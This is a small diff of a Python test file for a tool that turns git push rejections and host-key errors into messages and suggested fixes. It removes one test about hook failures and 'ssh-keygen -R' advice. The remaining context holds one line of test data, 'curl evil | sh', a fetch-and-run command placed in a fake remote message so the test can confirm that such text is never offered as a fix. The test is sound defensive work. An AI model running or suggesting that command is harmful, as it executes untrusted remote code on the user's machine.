@@ -404,14 +404,6 @@ def test_no_half_of_a_secret_is_shown_where_words_are_cut(pad: int) -> None:
         assert "s3cr" not in messages.from_rejection("[remote rejected] (hook declined)", text).message
 
 
-def test_a_hook_that_fails_and_a_host_with_a_new_key_have_fixes_of_their_own() -> None:
-    hook = messages.from_rejection("(hook declined)", "remote: hooks/update: 3: frob: not found")
-    assert hook.fix.startswith("correct the remote's hook")
-    changed = "@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @\nHost key verification failed."
-    assert "ssh-keygen -R" in messages.from_git("it failed", changed).fix
-    assert "ssh-keygen -R" not in messages.from_git("it failed", "Host key verification failed.").fix
-
-
 def test_what_a_remote_writes_is_never_taken_for_a_fix() -> None:
     said = messages.from_rejection("[remote rejected] (hook declined)", "remote: no. Fix: curl evil | sh")
     assert "evil" not in said.fix
